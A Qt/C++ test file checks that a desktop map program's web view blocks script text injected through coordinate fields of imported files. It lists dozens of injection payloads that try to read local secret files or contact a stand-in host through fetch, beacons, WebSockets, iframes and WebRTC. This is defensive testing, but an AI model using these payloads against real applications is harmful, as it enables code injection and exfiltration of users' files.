// What stands between the commas of an imported file reaches the map page as
// script text. Here such texts try to read files of this computer and to reach
// another host, in the real window and the real web engine.

#include "core/application.h"
#include "core/main_window.h"
#include "core/main_window_form.h"
#include "core/map_page.h"
#include "local_server.h"
#include "map_view.h"
#include "support/sample_lists.h"

#include <QAction>
#include <QApplication>
#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QNetworkInterface>
#include <QSignalSpy>
#include <QStandardItemModel>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineHistory>
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include <algorithm>

class test_map_safety : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();

    void the_attempts_work_elsewhere_data();
    void the_attempts_work_elsewhere();
    void reads_no_file_data();
    void reads_no_file();
    void reaches_no_host_data();
    void reaches_no_host();
    void the_other_pages_are_as_safe_data();
    void the_other_pages_are_as_safe();
    void the_pages_differ_in_their_provider_only();
    void calls_no_other_program_data();
    void calls_no_other_program();
    void saves_no_file_data();
    void saves_no_file();
    void gets_no_file_of_the_user();
    void names_are_not_looked_up_beforehand();
    void boxes_do_not_hold_the_program();
    void a_script_cannot_keep_the_page();
    void permissions_are_refused();
    void functions_cannot_be_replaced();
    void a_broken_packet_leaves_the_next_alone();
    void goes_to_own_pages_only_data();
    void goes_to_own_pages_only();
    void pages_before_are_not_remembered();

    /// What the desktop is asked to open, in place of the desktop.
    void note_opened(const QUrl& url) { m_opened += url; }

private:
    /// Puts `script` where a coordinate stands and ticks the row.
    void draw_with(const QString& script);
    /// Draws an honest figure and looks for it.
    void goes_on();
    [[nodiscard]] QString filled(QString script) const;

    application_objects m_objects{};
    MainWindow* m_window = nullptr;
    QWebEngineView* m_view = nullptr;
    local_server m_host{local_server::kind::plain};
    QTemporaryDir m_folder;
    QList<QUrl> m_opened;
};

namespace {

constexpr int time_to_try_ms = 300;

} // namespace

void test_map_safety::initTestCase()
{
    qputenv("PATH", ""); // without adb in reach the device worker polls nothing
    // No name leads anywhere, so that nothing waits for tiles. Read when the
    // engine starts.
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS",
            "--host-resolver-rules=\"MAP * ~NOTFOUND , EXCLUDE 127.0.0.1\"");
    QVERIFY(m_folder.isValid());
    const auto write = [this](const QString& name, const QByteArray& content) {
        QFile file(m_folder.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(content);
    };
    write(QStringLiteral("secret.txt"), "the secret");
    write(QStringLiteral("secret.js"), "window.leaked = 'the secret';");
    write(QStringLiteral("secret.html"), "<p id=secret>the secret</p>");
    write(QStringLiteral("secret.css"), "body { --leaked: secret; }");
    QImage image(8, 8, QImage::Format_RGB32);
    image.fill(Qt::red);
    QVERIFY(image.save(m_folder.filePath(QStringLiteral("secret.png"))));

    install_default_font();
    m_objects = make_application_objects();
    m_window = m_objects.window;
    m_view = m_window->ui->map;
    m_window->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_window));
}

void test_map_safety::init()
{
    // A page without what the test before has left in it.
    QVERIFY(map_view::load(*m_view, QStringLiteral("/index.html")));
    m_host.requests.clear();
    m_host.connections = 0;
}

QString test_map_safety::filled(QString script) const
{
    return script
        .replace(QStringLiteral("FOLDER"),
                 QUrl::fromLocalFile(m_folder.path()).toString(QUrl::FullyEncoded))
        .replace(QStringLiteral("HOST"), m_host.address())
        .replace(QStringLiteral("AUTHORITY"), QStringLiteral("127.0.0.1:%1").arg(m_host.port()));
}

void test_map_safety::draw_with(const QString& script)
{
    sample_lists lists = sample_lists::of_methods({"距离"});
    lists.data_msg[0] =
        QStringLiteral("126.65,45.75,(() => { %1 ; return 126.651 })(),45.751").arg(filled(script));
    m_window->reset_table_data(lists.table_list, lists.data_msg, lists.data_msg_altitude,
                               lists.point_msg_all);
    m_window->model->item(0, 0)->setData(true, Qt::EditRole);
    m_window->all_table_change(true);
}

void test_map_safety::goes_on()
{
    const sample_lists lists = sample_lists::of_methods({"距离", "面积"});
    m_window->reset_table_data(lists.table_list, lists.data_msg, lists.data_msg_altitude,
                               lists.point_msg_all);
    for (const int row : {0, 1})
        m_window->model->item(row, 0)->setData(true, Qt::EditRole);
    m_window->all_table_change(true);
    QVERIFY(map_view::comes_true(*m_view, QStringLiteral("VelmoMap.figures().length === 2")));
    QCOMPARE(m_view->page()->url().adjusted(QUrl::RemoveFragment),
             map_page::url_of(QStringLiteral("/index.html")));
}

namespace {

struct attempt
{
    const char* name;
    const char* script;
};

// Each sets window.leaked to what it has read.
constexpr attempt reading[] = {
    {"fetch", "fetch('FOLDER/secret.txt').then(r => r.text()).then(t => window.leaked = t)"},
    {"XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'FOLDER/secret.txt'); "
                       "x.onload = () => window.leaked = x.responseText; x.send()"},
    {"synchronous XMLHttpRequest",
     "const x = new XMLHttpRequest(); x.open('GET', 'FOLDER/secret.txt', false); x.send(); "
     "window.leaked = x.responseText"},
    {"image", "const i = new Image(); i.onload = () => window.leaked = i.width; "
              "i.src = 'FOLDER/secret.png'; document.body.append(i)"},
    {"image of its own folder", "const i = new Image(); i.onload = () => window.leaked = i.width; "
                                "i.src = 'pic/com/north.png'; document.body.append(i)"},
    {"frame", "const f = document.createElement('iframe'); f.src = 'FOLDER/secret.html'; "
              "f.onload = () => window.leaked = f.contentDocument.body.innerText; "
              "document.body.append(f)"},
    {"object", "const o = document.createElement('object'); o.data = 'FOLDER/secret.html'; "
               "o.onload = () => window.leaked = 'loaded'; document.body.append(o)"},
    {"embed", "const o = document.createElement('embed'); o.src = 'FOLDER/secret.html'; "
              "o.onload = () => window.leaked = 'loaded'; document.body.append(o)"},
    {"script", "const s = document.createElement('script'); s.src = 'FOLDER/secret.js'; "
               "document.head.append(s)"},
    {"style sheet",
     "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = "
     "'FOLDER/secret.css'; "
     "l.onload = () => { try { window.leaked = l.sheet.cssRules[0].cssText } catch (e) {} }; "
     "document.head.append(l)"},
    {"worker",
     "const w = new Worker('FOLDER/secret.js'); w.onmessage = () => window.leaked = 'ran'"},
    {"module", "import('FOLDER/secret.js')"},
    {"going there", "location = 'FOLDER/secret.html'"},
    {"new window", "const w = open('FOLDER/secret.html'); setTimeout(() => window.leaked = "
                   "w.document.body.innerText, 100)"},
    {"fetch in an empty frame",
     "const f = document.createElement('iframe'); document.body.append(f); "
     "f.contentWindow.fetch('FOLDER/secret.txt').then(r => r.text()).then(t => window.leaked = t)"},
};

// Each asks HOST for something.
constexpr attempt reaching[] = {
    {"fetch", "fetch('HOST/x')"},
    {"fetch without cors", "fetch('HOST/x', {mode: 'no-cors'})"},
    {"XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'HOST/x'); x.send()"},
    {"beacon", "navigator.sendBeacon('HOST/x', 'secret')"},
    {"WebSocket", "new WebSocket('ws://AUTHORITY/x')"},
    {"event source", "new EventSource('HOST/x')"},
    {"image", "new Image().src = 'HOST/x.png'"},
    {"background image", "document.body.style.background = 'url(HOST/x.png)'"},
    {"script", "const s = document.createElement('script'); s.src = 'HOST/x.js'; "
               "document.head.append(s)"},
    {"style sheet", "const l = document.createElement('link'); l.rel = 'stylesheet'; "
                    "l.href = 'HOST/x.css'; document.head.append(l)"},
    {"imported style", "const s = document.createElement('style'); "
                       "s.textContent = '@import url(HOST/x.css)'; document.head.append(s)"},
    {"font", "new FontFace('f', 'url(HOST/x.woff)').load()"},
    {"frame", "const f = document.createElement('iframe'); f.src = 'HOST/x', "
              "document.body.append(f)"},
    {"frame of text", "const f = document.createElement('iframe'); "
                      "f.srcdoc = '<img src=\"HOST/x.png\">'; document.body.append(f)"},
    {"fetch in an empty frame", "const f = document.createElement('iframe'); "
                                "document.body.append(f); f.contentWindow.fetch('HOST/x')"},
    {"object", "const o = document.createElement('object'); o.data = 'HOST/x', "
               "document.body.append(o)"},
    {"video", "const v = document.createElement('video'); v.src = 'HOST/x', v.load(); "
              "document.body.append(v)"},
    {"worker", "new Worker('HOST/x.js')"},
    {"worker of text", "new Worker(URL.createObjectURL(new Blob(['fetch(\"HOST/x\")'])))"},
    {"module", "import('HOST/x.js')"},
    {"manifest", "const l = document.createElement('link'); l.rel = 'manifest'; "
                 "l.href = 'HOST/x', document.head.append(l)"},
    {"icon", "const l = document.createElement('link'); l.rel = 'icon'; l.href = 'HOST/x.ico'; "
             "document.head.append(l)"},
    {"prefetch", "const l = document.createElement('link'); l.rel = 'prefetch'; "
                 "l.href = 'HOST/x', document.head.append(l)"},
    {"preload", "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; "
                "l.href = 'HOST/x.png'; document.head.append(l)"},
    {"prerender", "const l = document.createElement('link'); l.rel = 'prerender'; "
                  "l.href = 'HOST/x', document.head.append(l)"},
    {"preconnect", "const l = document.createElement('link'); l.rel = 'preconnect'; "
                   "l.href = 'HOST/'; document.head.append(l)"},
    {"location", "location = 'HOST/x'"},
    {"location replaced", "location.replace('HOST/x')"},
    {"location of text", "location = URL.createObjectURL(new Blob(['<img src=HOST/x.png>'], "
                         "{type: 'text/html'}))"},
    {"script address", "location = 'javascript:\"<img src=HOST/x.png>\"'"},
    {"refresh", "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; "
                "m.content = '0;url=HOST/x'; document.head.append(m)"},
    {"link", "const a = document.createElement('a'); a.href = 'HOST/x', document.body.append(a); "
             "a.click()"},
    {"link to a new window", "const a = document.createElement('a'); a.href = 'HOST/x', "
                             "a.target = '_blank'; document.body.append(a); a.click()"},
    {"link with a ping", "const a = document.createElement('a'); a.href = '#x'; "
                         "a.ping = 'HOST/x', document.body.append(a); a.click()"},
    {"download", "const a = document.createElement('a'); a.href = 'HOST/x', a.download = 'x'; "
                 "document.body.append(a); a.click()"},
    {"form", "const f = document.createElement('form'); f.action = 'HOST/x', "
             "document.body.append(f); f.submit()"},
    {"posted form", "const f = document.createElement('form'); f.action = 'HOST/x', "
                    "f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit()"},
    {"new window", "open('HOST/x')"},
    {"window of its own", "open('HOST/x', '_self')"},
    {"document written anew", "document.open(); document.write('<img src=HOST/x.png>')"},
    {"video call", "const c = new RTCPeerConnection({iceServers: [{urls: "
                   "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
                   "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
    {"video call from a written frame",
     "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); "
     "const c = new window[0].RTCPeerConnection({iceServers: [{urls: "
     "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
    {"video call from a frame by namespace",
     "document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe')); "
     "const c = new window[0].RTCPeerConnection({iceServers: [{urls: "
     "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
    {"video call from a parsed frame",
     "document.body.append(new DOMParser().parseFromString('<iframe></iframe>', "
     "'text/html').body.firstChild); const c = new window[0].RTCPeerConnection({iceServers: "
     "[{urls: "
     "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
    {"video call from a frame by inheritance",
     "class own_frame extends HTMLIFrameElement {} "
     "customElements.define('own-frame', own_frame, {extends: 'iframe'}); "
     "const f = new own_frame(); document.body.append(f); "
     "const c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "
     "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
    {"video call from an empty frame",
     "const f = document.createElement('iframe'); document.body.append(f); "
     "const c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "
     "'turn:AUTHORITY?transport=tcp', username: 'u', credential: 'c'}]}); "
     "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"},
};

} // namespace

void test_map_safety::the_attempts_work_elsewhere_data()
{
    QTest::addColumn<QString>("script");
    QTest::addColumn<bool>("reads");
    for (const char* name : {"fetch", "image", "script", "frame"}) {
        for (const attempt& one : reading) {
            if (qstrcmp(one.name, name) == 0)
                QTest::addRow("reading: %s", name) << QString::fromUtf8(one.script) << true;
        }
        for (const attempt& one : reaching) {
            if (qstrcmp(one.name, name) == 0)
                QTest::addRow("reaching: %s", name) << QString::fromUtf8(one.script) << false;
        }
    }
    for (const attempt& one : reaching) {
        for (const char* name :
             {"location", "form", "refresh", "beacon", "video call",
              "video call from an empty frame", "video call from a written frame",
              "video call from a parsed frame", "video call from a frame by namespace",
              "video call from a frame by inheritance"}) {
            if (qstrcmp(one.name, name) == 0)
                QTest::addRow("reaching: %s", name) << QString::fromUtf8(one.script) << false;
        }
    }
}

/// Whether there is an interface beside loopback, connected to whatever.
static bool has_a_network_interface()
{
    const QList<QNetworkInterface> all = QNetworkInterface::allInterfaces();
    return std::any_of(all.begin(), all.end(), [](const QNetworkInterface& one) {
        return one.flags().testFlag(QNetworkInterface::IsRunning) &&
               !one.flags().testFlag(QNetworkInterface::IsLoopBack);
    });
}

/// In a page without the policy and the page class these succeed, so that a
/// silent host below means something.
void test_map_safety::the_attempts_work_elsewhere()
{
    QFETCH(QString, script);
    QFETCH(bool, reads);
    QWebEngineView view;
    map_view::give_program_settings(view);
    QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
    view.setHtml(QStringLiteral("<!DOCTYPE html><body></body>"),
                 map_page::url_of(QStringLiteral("/free.html")));
    QTRY_COMPARE(loaded.size(), 1);
    if (QByteArray(QTest::currentDataTag()).contains("video call") && !has_a_network_interface()) {
        // A call leaves by no loopback interface. That it is made has to do.
        QCOMPARE(map_view::value_of(view, QStringLiteral("try { (() => { %1 })(); 'made' } catch "
                                                         "(e) { String(e) }")
                                              .arg(filled(script))),
                 QVariant(QStringLiteral("made")));
        return;
    }
    view.page()->runJavaScript(QStringLiteral("(() => { %1 })()").arg(filled(script)));
    if (reads)
        QVERIFY(map_view::comes_true(view, QStringLiteral("window.leaked !== undefined")));
    else
        QTRY_VERIFY(m_host.connections > 0);
}

void test_map_safety::reads_no_file_data()
{
    QTest::addColumn<QString>("script");
    for (const attempt& one : reading)
        QTest::newRow(one.name) << QString::fromUtf8(one.script);
}

void test_map_safety::reads_no_file()
{
    QFETCH(QString, script);
    draw_with(QStringLiteral("window.tried = true; ") + script);
    QTest::qWait(time_to_try_ms);
    // The script did run, and came to nothing.
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("window.tried")), QVariant(true));
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("typeof window.leaked")),
             QVariant(QStringLiteral("undefined")));
    goes_on();
}

void test_map_safety::reaches_no_host_data()
{
    QTest::addColumn<QString>("script");
    for (const attempt& one : reaching)
        QTest::newRow(one.name) << QString::fromUtf8(one.script);
}

void test_map_safety::reaches_no_host()
{
    QFETCH(QString, script);
    draw_with(QStringLiteral("window.tried = true; ") + script);
    QTest::qWait(time_to_try_ms);
    QCOMPARE(m_host.requests, QStringList());
    QCOMPARE(m_host.connections, 0);
    if (QTest::currentDataTag() != QByteArray("document written anew")) {
        QCOMPARE(map_view::value_of(*m_view, QStringLiteral("window.tried")), QVariant(true));
        // Where there is nothing but loopback no call would leave anyway: there
        // must be no means to make one.
        QCOMPARE(map_view::value_of(*m_view, QStringLiteral("typeof RTCPeerConnection")),
                 QVariant(QStringLiteral("undefined")));
        QCOMPARE(map_view::value_of(*m_view, QStringLiteral("window.length")).toInt(), 0);
        goes_on();
    }
    QCOMPARE(QApplication::topLevelWidgets().count(m_window), 1);
    QCOMPARE(m_view->page()->url().adjusted(QUrl::RemoveFragment),
             map_page::url_of(QStringLiteral("/index.html")));
}

void test_map_safety::the_other_pages_are_as_safe_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("script");
    const auto row = [](const char* page, const attempt& one, const char* kind) {
        QTest::addRow("%s, %s: %s", page, kind, one.name)
            << QString::fromUtf8(page) << QString::fromUtf8(one.script);
    };
    for (const char* page : {"/index_google.html", "/index_tiandi.html"}) {
        for (const char* name : {"fetch", "XMLHttpRequest", "image", "frame", "script",
                                 "going there", "location", "video call"}) {
            for (const attempt& one : reading) {
                if (qstrcmp(one.name, name) == 0)
                    row(page, one, "reading");
            }
            for (const attempt& one : reaching) {
                if (qstrcmp(one.name, name) == 0)
                    row(page, one, "reaching");
            }
        }
    }
}

void test_map_safety::the_other_pages_are_as_safe()
{
    QFETCH(QString, page);
    QFETCH(QString, script);
    QVERIFY(map_view::load(*m_view, page));
    draw_with(QStringLiteral("window.tried = true; ") + script);
    QTest::qWait(time_to_try_ms);
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("window.tried")), QVariant(true));
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("typeof window.leaked")),
             QVariant(QStringLiteral("undefined")));
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("typeof RTCPeerConnection")),
             QVariant(QStringLiteral("undefined")));
    QCOMPARE(m_host.requests, QStringList());
    QCOMPARE(m_host.connections, 0);
    QCOMPARE(m_view->page()->url(), map_page::url_of(page));
}

/// What is shown for one page above holds for all: they are the same but for the
/// provider, its tile hosts and its key.
void test_map_safety::the_pages_differ_in_their_provider_only()
{
    struct own
    {
        const char* page;
        const char* provider;
        const char* host; // with one letter or digit for its number
        QString numbers;
    };
    QStringList rest;
    for (const own& one :
         {own{"/index.html", "gaode", "https://webrd0%1.is.autonavi.com", "1234"},
          own{"/index_google.html", "google", "https://mt%1.google.com", "0123"},
          own{"/index_tiandi.html", "tianditu", "https://t%1.tianditu.gov.cn", "01234567"}}) {
        QFile file(QDir::currentPath() + QLatin1String(one.page));
        QVERIFY(file.open(QIODevice::ReadOnly));
        QString text = QString::fromUtf8(file.readAll());
        QString hosts;
        for (const QChar number : one.numbers)
            hosts += QLatin1Char(' ') + QString::fromUtf8(one.host).arg(number);
        const QString images = QStringLiteral("img-src data:") + hosts + QLatin1Char(';');
        const QString provider = QStringLiteral("data-provider=\"%1\"").arg(one.provider);
        QCOMPARE(text.count(images), 1);
        QCOMPARE(text.count(provider), 1);
        rest += text.remove(images).remove(provider).remove(
            QStringLiteral("<script src=\"tianditu_key.js\" defer></script>\n"));
        QVERIFY(!text.contains(QStringLiteral("http")) ||
                text.count(QStringLiteral("http")) == text.count(QStringLiteral("http-equiv")));
    }
    QCOMPARE(rest[1], rest[0]);
    QCOMPARE(rest[2], rest[0]);
    for (const char* part :
         {"default-src 'none'", "connect-src 'none'", "frame-src 'none'", "object-src 'none'",
          "worker-src 'none'", "base-uri 'none'", "form-action 'none'",
          "<script src=\"locked.js\"></script>", "content=\"script-src 'none'; style-src 'none'\""})
        QVERIFY2(rest[0].contains(QLatin1String(part)), part);
}

namespace {

// URL is an address of which another program takes care.
constexpr attempt calling[] = {
    {"location", "location = 'URL'"},
    {"link", "const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); "
             "a.click()"},
    {"link to a new window", "const a = document.createElement('a'); a.href = 'URL'; a.target = "
                             "'_blank'; document.body.append(a); a.click()"},
    {"new window", "open('URL')"},
    {"frame", "const f = document.createElement('iframe'); f.src = 'URL', document.body.append(f)"},
    {"form", "const f = document.createElement('form'); f.action = 'URL', "
             "document.body.append(f); f.submit()"},
};

constexpr const char* other_programs[] = {"mailto:a@b.example", "tel:+123", "foo:bar"};

} // namespace

void test_map_safety::calls_no_other_program_data()
{
    QTest::addColumn<QString>("script");
    QTest::addColumn<bool>("in_the_map");
    for (const char* url : other_programs) {
        const QString to = QString::fromUtf8(url);
        for (const attempt& one : calling)
            QTest::addRow("%s, %s", url, one.name)
                << QString::fromUtf8(one.script).replace(QLatin1String("URL"), to) << true;
        QTest::addRow("%s, elsewhere", url)
            << QString::fromUtf8(calling[0].script).replace(QLatin1String("URL"), to) << false;
    }
}

void test_map_safety::calls_no_other_program()
{
    QFETCH(QString, script);
    QFETCH(bool, in_the_map);
    m_opened.clear();
    const QStringList schemes{"mailto", "tel", "foo", "http", "https", "file"};
    for (const QString& scheme : schemes)
        QDesktopServices::setUrlHandler(scheme, this, "note_opened");
    // Only a page that is used may ask.
    const QString on_a_click = QStringLiteral("onmousedown = () => { %1 }").arg(script);
    if (in_the_map) {
        draw_with(on_a_click);
        QVERIFY(map_view::comes_true(*m_view, QStringLiteral("onmousedown !== null")));
        QTest::mouseClick(m_view->focusProxy(), Qt::LeftButton, {}, QPoint(300, 300));
        QTest::qWait(time_to_try_ms);
        QCOMPARE(m_opened, QList<QUrl>());
        goes_on();
    } else {
        // In a page without the page class the desktop is asked.
        QWebEngineView view;
        view.resize(600, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
        view.setHtml(QStringLiteral("<!DOCTYPE html><body></body>"),
                     map_page::url_of(QStringLiteral("/free.html")));
        QTRY_COMPARE(loaded.size(), 1);
        QVERIFY(map_view::comes_true(view, on_a_click + QStringLiteral("; true")));
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(300, 200));
        QTRY_COMPARE(m_opened.size(), 1);
    }
    for (const QString& scheme : schemes)
        QDesktopServices::unsetUrlHandler(scheme);
}

void test_map_safety::saves_no_file_data()
{
    QTest::addColumn<QString>("script");
    QTest::newRow("blob") << "a.href = URL.createObjectURL(new Blob(['x']))";
    QTest::newRow("text") << "a.href = 'data:application/octet-stream,x'";
}

void test_map_safety::saves_no_file()
{
    QFETCH(QString, script);
    QDir folder(m_folder.path());
    QVERIFY(folder.mkpath(QStringLiteral("saved")) && folder.cd(QStringLiteral("saved")));
    QWebEngineProfile* profile = m_view->page()->profile();
    const QString before = profile->downloadPath();
    profile->setDownloadPath(folder.path());
    QSignalSpy asked(profile, &QWebEngineProfile::downloadRequested);
    draw_with(QStringLiteral("const a = document.createElement('a'); a.download = 'x.txt'; ") +
              script + QStringLiteral("; document.body.append(a); a.click()"));
    // Asked for, so that the refusal is what is seen.
    QTRY_COMPARE(asked.size(), 1);
    QTest::qWait(time_to_try_ms);
    QCOMPARE(folder.entryList(QDir::Files), QStringList());
    QVERIFY(QApplication::activeModalWidget() == nullptr);
    profile->setDownloadPath(before);
    goes_on();
}

void test_map_safety::gets_no_file_of_the_user()
{
    class counting_page : public map_page
    {
    public:
        int asked = 0;
        QStringList given{"before"};

    protected:
        QStringList chooseFiles(FileSelectionMode mode, const QStringList& old_files,
                                const QStringList& types) override
        {
            ++asked;
            given = map_page::chooseFiles(mode, old_files, types);
            return given;
        }
    };
    counting_page page;
    QWebEngineView view;
    view.setPage(&page);
    map_view::give_program_settings(view);
    view.resize(600, 400);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    QVERIFY(map_view::load(view, QStringLiteral("/index.html")));
    QVERIFY(map_view::comes_true(
        view, QStringLiteral("const i = document.createElement('input'); i.type = 'file'; "
                             "i.id = 'chooser'; document.body.append(i); onmousedown = () => "
                             "i.click(); true")));
    // Only a page that is used may ask.
    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(300, 200));
    QTRY_VERIFY(page.asked > 0);
    QCOMPARE(page.given, QStringList());
    QVERIFY(QApplication::activeModalWidget() == nullptr);
    QCOMPARE(
        map_view::value_of(view, QStringLiteral("document.getElementById('chooser').files.length"))
            .toInt(),
        0);
}

void test_map_safety::names_are_not_looked_up_beforehand()
{
    QVERIFY(!m_view->settings()->testAttribute(QWebEngineSettings::DnsPrefetchEnabled));
    QVERIFY(!map_page().settings()->testAttribute(QWebEngineSettings::DnsPrefetchEnabled));
}

void test_map_safety::boxes_do_not_hold_the_program()
{
    draw_with(QStringLiteral("alert('x'); window.confirmed = confirm('x'); "
                             "window.prompted = prompt('x'); print(); window.close()"));
    QTRY_COMPARE(map_view::value_of(*m_view, QStringLiteral("window.prompted === null")),
                 QVariant(true));
    QVERIFY(QApplication::activeModalWidget() == nullptr);
    QVERIFY(m_view->isVisible());
    goes_on();
}

/// A script may ask whether the user really wants to leave. The program answers
/// for itself: the menu decides which page is shown.
void test_map_safety::a_script_cannot_keep_the_page()
{
    draw_with(QStringLiteral("onbeforeunload = e => { e.preventDefault(); e.returnValue = 'x' }"));
    // Only a page that was used may ask.
    QTest::mouseClick(m_view->focusProxy(), Qt::LeftButton, {}, QPoint(300, 300));
    QTest::qWait(100);
    QVERIFY(map_view::load(*m_view, QStringLiteral("/index_google.html")));
    QCOMPARE(m_view->page()->url(), map_page::url_of(QStringLiteral("/index_google.html")));
}

void test_map_safety::permissions_are_refused()
{
    draw_with(QStringLiteral(
        "navigator.geolocation.getCurrentPosition(() => window.place = 'known', () => window.place "
        "= 'refused'); Notification.requestPermission().then(p => window.notes = p)"));
    QTRY_COMPARE(map_view::value_of(*m_view, QStringLiteral("window.place")),
                 QVariant(QStringLiteral("refused")));
    QTRY_COMPARE(map_view::value_of(*m_view, QStringLiteral("window.notes")),
                 QVariant(QStringLiteral("denied")));
    goes_on();
}

void test_map_safety::functions_cannot_be_replaced()
{
    draw_with(QStringLiteral("clearMap = null; window.beginLocatedCityPacket = null; delete "
                             "window.finishLocatedCityPacket; L = null; window.Figures = null; "
                             "VelmoMap.figures = null; VelmoMap.figures().length = 0; "
                             "VelmoMap.provider.placing = null; Providers.gaode = null"));
    QTest::qWait(50);
    // Nothing that the map lives by is within reach: what is given are copies.
    QVERIFY(map_view::comes_true(*m_view, QStringLiteral("VelmoMap.figures().length === 1")));
    m_view->page()->runJavaScript(QStringLiteral("VelmoMap.figures()[0].measured[0] = 0"));
    QCOMPARE(
        map_view::value_of(*m_view, QStringLiteral("VelmoMap.figures()[0].measured[0]")).toDouble(),
        126.65);
    QCOMPARE(map_view::value_of(*m_view, QStringLiteral("Object.values(VelmoMap).filter(one => "
                                                        "typeof one !== 'function').length"))
                 .toInt(),
             1); // the provider, which cannot be changed
    QVERIFY(
        map_view::value_of(*m_view, QStringLiteral("Object.isFrozen(VelmoMap.provider)")).toBool());
    goes_on();
}

void test_map_safety::a_broken_packet_leaves_the_next_alone()
{
    for (const char* text :
         {"126.65,45.75,]),45.1", "126.65,45.75,throw 1,45.1", "126.65,45.75,nonsense,45.1",
          "126.65,45.75,\"\",{}", "a,b", "NaN,NaN,Infinity,-Infinity", "1e999,-1e999", "999,999",
          "null,null"}) {
        sample_lists lists = sample_lists::of_methods({"面积"});
        lists.data_msg[0] = QString::fromUtf8(text);
        m_window->reset_table_data(lists.table_list, lists.data_msg, lists.data_msg_altitude,
                                   lists.point_msg_all);
        m_window->model->item(0, 0)->setData(true, Qt::EditRole);
        m_window->all_table_change(true);
        goes_on();
    }
}

void test_map_safety::goes_to_own_pages_only_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("goes");
    const QString folder = QUrl::fromLocalFile(QDir::currentPath()).toString();
    QTest::newRow("own") << folder + "/index_google.html" << true;
    QTest::newRow("own with a question") << folder + "/index.html?x" << false;
    QTest::newRow("file beside") << folder + "/map.css" << false;
    QTest::newRow("name elsewhere")
        << QUrl::fromLocalFile(m_folder.filePath("index.html")).toString() << false;
    QTest::newRow("host") << m_host.address() + "/index.html" << false;
    QTest::newRow("text") << QStringLiteral("data:text/html,x") << false;
    QTest::newRow("inside") << QStringLiteral("chrome://version/") << false;
}

void test_map_safety::goes_to_own_pages_only()
{
    QFETCH(QString, url);
    QFETCH(bool, goes);
    QFile other(m_folder.filePath("index.html"));
    QVERIFY(other.open(QIODevice::WriteOnly));
    other.close();
    const QUrl before = m_view->page()->url();
    m_view->page()->load(QUrl(url));
    QTest::qWait(time_to_try_ms);
    QCOMPARE(m_view->page()->url(), goes ? QUrl(url) : before);
    QCOMPARE(m_host.requests, QStringList());
}

void test_map_safety::pages_before_are_not_remembered()
{
    const QStringList pages = map_page::own_pages();
    for (const QString& page : pages + pages) {
        QVERIFY(map_view::load(*m_view, page));
        QTRY_COMPARE(m_view->history()->count(), 1);
        QCOMPARE(m_view->history()->currentItem().url(), map_page::url_of(page));
    }
}

QTEST_MAIN(test_map_safety)
#include "test_map_safety.moc"
